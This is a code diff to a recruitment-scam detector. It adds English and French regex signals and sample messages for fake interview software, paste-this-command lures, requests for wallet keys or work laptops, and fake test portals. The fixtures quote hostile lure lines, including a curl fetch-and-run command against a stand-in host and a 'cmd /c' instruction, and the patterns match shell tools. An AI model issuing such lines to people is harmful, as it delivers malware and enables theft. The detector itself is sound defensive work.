+        E("Include a README so that we can build it and run it on our side."),
+        E("Le poste consiste à faire évoluer notre application existante.", lang="fr"),
+        E("Récupérez le code d'accès envoyé par SMS pour vous connecter.", lang="fr"),
     ),
 )
 
@@ -1009,7 +1469,7 @@ INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
     "ClickFake Interview; Moonstone Sleet (trojanized PuTTY); ALTA CISO note",
     patterns={
         "message": (
-            near(r"\b(?:download|install|update|upgrade|reinstall|run)\b",
+            near(r"\b(?:download|install|update|upgrade|reinstall|run|grab|get)\b",
                  r"\b(?:interview|meeting|video|camera|webcam|microphone|mic|audio|conferencing"
                  r"|call|screen[- ]?sharing|vpn) ?(?:app|application|software|client|tool|plugin"
                  r"|plug-in|extension|driver|drivers|fix|patch|update|program|installer)\b",
@@ -1036,13 +1496,48 @@ INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
             r"\b(?:our|a) (?:own |custom |proprietary |secure |encrypted |dedicated )(?:interview"
             r"|meeting|video|conferencing|assessment) (?:app|application|software|platform|client"
             r"|tool)\b",
+            # the interview runs in the sender's own software, or the usual one is "blocked"
+            r"\b(?:interviews?|meetings?|calls?|sessions?) (?:run|runs|take place|are held|is held"
+            r"|happen|are conducted|will be conducted|will run|will take place) (?:on|in|via|throug"
+            r"h"
+            r"|using) (?:a |our )?(?:own |custom |proprietary |in-house |internal |dedicated "
+            r"|special )(?:platform|app|application|software|tool|client)\b",
+            near(r"\b(?:use|using|have) (?:our|a) (?:own|custom|proprietary|in-house|internal"
+                 r"|dedicated) (?:video |meeting |interview |conferencing |call )?(?:tool|app"
+                 r"|application|software|client|platform)\b",
+                 r"\b(?:download|install|installer|setup)\b", r"[^.!?;]{0,60}"),
+            r"\b(?:zoom|teams|google meet|meet|skype|webex) (?:is|are) (?:blocked|not allowed|banne"
+            r"d"
+            r"|unavailable|not available|restricted|not supported) (?:at|in|by|for|on) (?:our|the"
+            r"|my)\b",
+            r"\b(?:get|grab|download|run|launch|open) (?:the |our |this )?(?:installer|setup"
+            r" (?:file|program|package))\b",
+            r"\bif (?:the |your )?(?:page|site|browser|link|room|platform|system|it) (?:asks|prompt"
+            r"s"
+            r"|requests)(?: you)? (?:to )?(?:install|download|update|allow|enable|accept)\b",
+            r"\b(?:camera|webcam|microphone|mic|audio|video) (?:isn't|is not|isnt|not) (?:coming"
+            r" through|showing|displaying|appearing|working)(?: [a-z]+){0,2} (?:on|at|from) (?:our"
+            r"|my) (?:end|side)\b",
             # French
             r"\b(?:telecharge[rz]?|installe[rz]?|mettez a jour|mettre a jour|mets a jour)"
             r" (?:notre |le |la |l'|votre |ton )?(?:logiciel|application|appli|outil|client|pilote"
-            r"|driver|plugin|extension|navigateur|chrome|zoom)(?: (?:d'entretien|de visio"
+            r"|driver|plugin|extension|navigateur|chrome|zoom|correctif|patch|module|composant)"
+            r"(?: (?:d'entretien|de visio"
             r"(?:conference)?|de reunion|de la camera|video|audio|camera|webcam|d'entrevue))?\b",
             r"\bpilotes? (?:de la |de )?(?:camera|webcam|micro)\b",
             r"\b(?:camera|webcam|micro) (?:non (?:detectee?|reconnue?)|introuvable|bloquee?)\b",
+            r"\b(?:camera|webcam|micro|son|video) (?:ne )?(?:s'affiche|fonctionne|marche|passe"
+            r"|s'allume)(?: pas| plus) (?:de notre cote|de mon cote|chez nous|chez moi|sur notre"
+            r" ecran)\b",
+            r"\b(?:entretiens?|reunions?|visios?|appels?) (?:se deroulent|se deroulera|se deroule"
+            r"|se font|se fera|se feront|ont lieu|aura lieu|auront lieu) (?:sur|via|dans|avec)"
+            r" (?:une|un|notre) (?:application|appli|logiciel|outil|plateforme) (?:maison|interne"
+            r"|proprietaire|dediee?|sur mesure|specifique)\b",
+            r"\binstalle[zr]?(?:-le|-la)? (?:a partir du|depuis le|via le|avec le) lien\b",
+            near(r"\b(?:module|plugin|plug-in|extension|composant|add-on)\b",
+                 r"\binstalle[zr]?-(?:le|la)\b", r"[^.!?;]{0,60}"),
+            r"\b(?:zoom|teams|google meet|meet|skype|webex) (?:est|sont) (?:bloque|interdit"
+            r"|indisponible|non autorise|pas autorise)e?s? (?:chez|dans|par|pour)\b",
         )
     },
     examples=(
@@ -1054,12 +1549,26 @@ INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
           lang="fr", spans=("Téléchargez notre logiciel d'entretien", "pilote de la caméra")),
         E("Install the attached app in order to start the assessment.",
           spans=("Install the attached app in order to start the assessment",)),
+        E("Teams is blocked at our firm, so we use our own video tool: run the installer from "
+          "the link.", spans=("Teams is blocked at our", "run the installer")),
+        E("Your webcam isn't showing on our end; if the room prompts you to install anything, "
+          "accept.", spans=("webcam isn't showing on our end", "room prompts you to install")),
+        E("Les entretiens ont lieu sur une plateforme interne : installez-la via le lien.",
+          lang="fr", spans=("entretiens ont lieu sur une plateforme interne",
+                            "installez-la via le lien")),
+        E("Ton micro ne marche pas de notre côté, télécharge le patch audio.", lang="fr",
+          spans=("micro ne marche pas de notre côté", "télécharge le patch audio")),
     ),
     counterexamples=(
         E("Join via this Teams link."),
         E("Please install Microsoft Teams to join the meeting if you do not have it."),
         E("Here's the Zoom link for Tuesday: https://zoom.us/j/5551234"),
         E("Voici le lien Google Meet pour notre entretien.", lang="fr"),
+        E("If your video is not showing, we can do the call by phone instead.",
+          note="an offer to fall back to the phone, no claim about 'our end'"),
+        E("Si la page vous demande de vous connecter, utilisez votre e-mail.", lang="fr"),
+        E("Nos entretiens ont lieu sur Teams ; si votre micro ne fonctionne pas, on passe au "
+          "téléphone.", lang="fr"),
     ),
 )
 
@@ -1085,6 +1594,10 @@ PASTE_COMMAND = PatternSignal(
             r"|snippet)?(?: below)? ?(?:in|into|in to|to) (?:your |the |a )?(?:terminal|command"
             r" prompt|cmd|powershell|run dialog|run box|shell|console|bash)\b",
             r"\bbase64 (?:-d|--decode)\b|\b(?:bash|sh) -c\b",
+            # a download run at once: process substitution, cmd /c, the Run dialog
+            r"\b(?:ba|z)?sh <\( ?(?:curl|wget)\b|\bcmd(?:\.exe)? /[ck]\b|\b(?:open|launch|bring up)"
+            r" (?:the |a )?(?:windows )?(?:run dialog|run box|run window)\b|\b(?:ouvre[zr]?"
+            r"|lance[zr]?) (?:la |une )?(?:boite|fenetre) (?:de dialogue )?executer\b",
             near(r"\b(?:paste|pasting|copy-paste)\b", r"\b(?:terminal|command prompt|cmd|powershell"
                  r"|run dialog|run box)\b", r"[^.!?]{0,60}"),
             r"\bscreenshots? of (?:the |your )?(?:result|output)s?\b",
@@ -1114,11 +1627,17 @@ PASTE_COMMAND = PatternSignal(
           spans=("Open the terminal and paste",)),
         E("Pour réparer votre caméra, ouvrez PowerShell et collez cette commande.", lang="fr",
           spans=("ouvrez PowerShell et collez",)),
+        E("Bring up the Run box and enter: cmd /c start fix.bat",
+          spans=("Bring up the Run box", "cmd /c")),
+        E("Ouvrez la fenêtre Exécuter puis lancez : sh <(curl -s https://x.example/a.sh)",
+          lang="fr", spans=("Ouvrez la fenêtre Exécuter", "sh <(curl")),
     ),
     counterexamples=(
         E("You'll use the terminal a lot in this DevOps role: bash, Terraform, Kubernetes."),
         E("Le poste demande une bonne maîtrise du terminal et de PowerShell.", lang="fr"),
         E("You'll open a terminal and run our test suite during the pairing session."),
+        E("Ouvrez une console et lancez vos tests unitaires pendant le pair programming.",
+          lang="fr"),
     ),
 )
 
@@ -1174,9 +1693,16 @@ ASSESSMENT_PORTAL = CallableSignal(
           spans=("technical test", "Register")),
         E("Passez le test technique sur evaluation-dev-carriere.com avant vendredi.", lang="fr",
           spans=("test technique", "evaluation-dev-carriere.com")),
+        E("Log in to our candidate testing hub with the credentials below.",
+          spans=("candidate testing", "testing hub")),
+        E("Crée-toi un compte et fais le quiz de code avant lundi.", lang="fr",
+          spans=("quiz de code", "Crée-toi un compte")),
     ),
     counterexamples=(
         E("The coding test is on HackerRank: https://www.hackerrank.com/test/abc123"),
+        E("Our engineering hub in Leeds runs candidate testing on CoderPad: "
+          "https://app.coderpad.io/x"),
+        E("Le quiz de code se passe sur Codility : https://app.codility.com/test/y", lang="fr"),
         E("Take the technical test at careers.helix-quantum.io/test",
           fields={"sender_company_url": "https://helix-quantum.io"}),
         E("Le test technique se passe sur Codility : https://app.codility.com/test/x", lang="fr"),
@@ -1194,6 +1720,13 @@ SECRETS_ON_DEVICE = PatternSignal(
     polarity="risk",
     source="L9: FBI IC3 PSA Sept 2024 (code on company devices); The Record / ESET; "
     "SethTenenbaum gist (.env asks for RELAYER_PRIVATE_KEY, JWT_SECRET); rtidx",
+    # a warning not to do it ("never paste real keys", « ne le lancez pas sur votre ordinateur
+    # professionnel ») is the safe advice, not the request
+    unless=r"\b(?:never|don't|do not|dont|must not|should not|shouldn't|avoid)(?: ever)?"
+    r" (?:put|paste|add|enter|use|using|run|running|connect|connecting|share|type|insert|provide"
+    r"|commit|expose|store|do)\b"
+    r"|\bn(?:e |')(?:(?:y|le|la|les|l'|en)\s?){0,2}(?:saisi|mett|coll|entr|renseign|ajout|fourni"
+    r"|indiqu|lanc|execut|utilis|connect|partag|install)\w{0,6} (?:jamais|pas|surtout pas)\b",
     patterns={
         "message": (
             r"\b(?:put|paste|add|enter|insert|fill in|set|provide|copy|export|send|share|use|type)"
@@ -1204,19 +1737,42 @@ SECRETS_ON_DEVICE = PatternSignal(
             r"|tokens?)\b",
             near(r"\b(?:private keys?|seed phrase|recovery phrase|mnemonic|api keys?|secrets?"
                  r"|credentials|tokens?)\b", r"(?:\bin|\binto|\bto) (?:the |your |a )?\.env\b"),
-            r"\bconnect (?:your |a )?(?:own |real |personal )?(?:metamask |phantom |crypto |web3 )?"
-            r"wallet\b",
+            # the candidate's own keys in the environment or a config file
+            near(r"\b(?:your|ur) (?:(?:own|real|actual|personal|live|production|aws|github"
+                 r"|wallet'?s?)\s){0,3}(?:private keys?|secret keys?|seed phrase|recovery phrase"
+                 r"|mnemonic|api keys?|access keys?|secrets?|credentials|tokens?)\b",
+                 r"\b(?:in|into|to) (?:the |your |a )?(?:environment variables?|env vars?"
+                 r"|config(?:uration)? file|settings file)\b", r"[^.!?]{0,40}"),
+            r"\b(?:connect|link|plug|hook up|sync) (?:your |ur |a )?(?:own |real |personal )?"
+            r"(?:metamask |phantom |crypto |web3 |ethereum |eth |solana )?wallet\b"
+            r"|\bsign (?:the|a|this) (?:test |dummy |small )?transaction\b",
             r"\b(?:relayer_)?private_key\b|\bjwt_secret\b|\bseed phrase\b",
-            r"\b(?:use|on|from|using|with) your (?:work|office|company|corporate|employer'?s?)"
+            r"\b(?:use|on|from|using|with) (?:your|ur) (?:work|office|company|corporate|employer'?s"
+            r"?"
+            r"|company-issued|company-provided|work-issued|employer-issued|business)"
             r" (?:laptop|computer|machine|device|pc|workstation|mac)\b",
+            # the device of the candidate's current employer, described
+            r"\b(?:machine|computer|laptop|device|pc) (?:that )?(?:you use|you work on) (?:at|for)"
+            r" (?:your|ur) (?:current |day )?(?:job|work|employer|office|company)\b"
+            r"|\b(?:laptop|computer|machine|device|pc) (?:provided|issued|given|supplied) by (?:you"
+            r"r"
+            r"|ur) (?:current )?(?:employer|company|job|workplace)\b",
             # French
             near(r"\b(?:mettez|mettre|collez|coller|entrez|saisissez|renseignez|ajoutez|fournissez"
-                 r"|indiquez)\b",
+                 r"|indiquez|mets|colle|saisis|renseigne|ajoute|fournis|indique)\b",
                  r"\b(?:cle privee|cles privees|phrase de recuperation|phrase secrete|cles? api"
                  r"|identifiants)\b", r"[^.!?]{0,30}"),
-            r"\bconnecte[zr]? (?:votre |ton )?(?:portefeuille|wallet)\b",
+            r"\b(?:connecte[zr]?|relie[zr]?|lie[zr]?|associe[zr]?) (?:votre |ton )?(?:portefeuille"
+            r"|wallet)\b|\bsigne[zr]? (?:la|une|cette) transaction\b",
             r"\b(?:sur|depuis|avec) (?:votre|ton) (?:ordinateur|poste|pc|portable)"
             r" (?:professionnel|de travail|pro|du bureau)\b",
+            r"\b(?:ordinateur|poste|pc|portable|machine) (?:fourni|prete|donne|mis a disposition)e?"
+            r" par (?:votre|ton) (?:employeur|entreprise|societe|boite)\b",
+            near(r"\b(?:vos|votre|tes|ton|ta) (?:propres? |vrais? |vraies? )?(?:cles? privees?"
+                 r"|cles? api|cles? d'acces|identifiants|jetons?(?: d'acces)?|tokens?|secrets?"
+                 r"|phrase de recuperation|mots? de passe)\b",
+                 r"\b(?:dans|en) (?:le |les |un |votre |ton )?(?:fichier \.env|\.env|variables?"
+                 r" d'environnement|fichier de configuration)\b", r"[^.!?]{0,60}"),
         )
     },
     examples=(
@@ -1226,10 +1782,25 @@ SECRETS_ON_DEVICE = PatternSignal(
           spans=("connect your MetaMask wallet", "on your work laptop")),
         E("Renseignez votre clé privée dans le fichier .env puis connectez votre portefeuille.",
           lang="fr", spans=("Renseignez votre clé privée", "connectez votre portefeuille")),
+        E("Set your own GitHub token in the environment variables, then sync ur wallet and sign "
+          "the test transaction.", spans=("your own GitHub token in the environment variables",
+                                          "sync ur wallet", "sign the test transaction")),
+        E("Run it on the laptop you use at your current job, or one issued by your employer.",
+          spans=("laptop you use at your current job",)),
+        E("Lie ton wallet. Il faut tes identifiants dans les variables d'environnement.",
+          lang="fr", spans=("Lie ton wallet", "tes identifiants dans les variables "
+                            "d'environnement")),
+        E("Faites le test sur le portable fourni par votre entreprise.", lang="fr",
+          spans=("portable fourni par votre entreprise",)),
     ),
     counterexamples=(
         E("You'll design key-management services for our security team."),
         E("Vous concevrez la gestion des clés pour notre équipe sécurité.", lang="fr"),
+        E("Never paste real keys: the exercise runs on a testnet with dummy credentials.",
+          note="a warning, not a request"),
+        E("Store secrets in environment variables rather than in the code.",
+          note="a coding guideline, not the candidate's own keys"),
+        E("N'utilisez jamais votre ordinateur professionnel pour ce test.", lang="fr"),
     ),
 )
 
@@ -1504,14 +2075,18 @@ FRAUD_AND_LURE_SIGNALS = (
 )
 
 #: Message-only pattern signals that the column path runs in groups: one RE2 pass with the union
-#: of a group's patterns, then each signal on the few rows that pass. Groups of six keep RE2's
-#: automaton small (a union of every pattern outgrows it and runs far slower); the tests check
-#: that the column path still equals the span path.
+#: of a group's patterns, then each signal on the few rows that pass. Groups of three keep RE2's
+#: automaton small: once a union outgrows RE2's memory budget for its automaton it runs several
+#: times slower than its parts (after the December 2026 pattern round, the groups of six then in
+#: use made signal extraction ten times slower). A test bounds the size of each union (see
+#: :data:`GATE_UNION_MAX`), and the tests check that the column path equals the span path.
 GATE_GROUPS: tuple[tuple[str, ...], ...] = (
-    ("offer_without_interview", "low_skill_remote_role", "easy_money", "pay_to_work",
-     "cheque_forwarding", "money_mule"),
-    ("early_identity_request", "chat_only_interview", "task_scam", "account_rental",
-     "premium_rate_number", "run_our_code"),
-    ("interview_software_download", "paste_command", "secrets_on_device", "company_pays_costs",
-     "standard_assessment_platform", "video_interview_offered"),
+    ("offer_without_interview", "low_skill_remote_role", "easy_money"),
+    ("pay_to_work", "cheque_forwarding", "money_mule"),
+    ("early_identity_request", "chat_only_interview", "task_scam"),
+    ("account_rental", "premium_rate_number", "run_our_code"),
+    ("interview_software_download", "paste_command", "secrets_on_device"),
+    ("company_pays_costs", "standard_assessment_platform", "video_interview_offered"),
 )
+#: The most characters a group's union of gate patterns may have (checked by a test).
+GATE_UNION_MAX = 20_000
